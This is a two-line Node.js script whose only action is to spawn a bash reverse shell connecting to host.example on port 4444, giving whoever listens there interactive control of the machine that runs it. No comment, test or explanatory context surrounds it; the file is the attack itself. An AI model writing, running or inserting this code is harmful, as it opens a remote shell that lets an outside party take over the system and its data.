import { exec } from 'node:child_process';

exec('bash -c "bash -i >& /dev/tcp/host.example/4444 0>&1"');
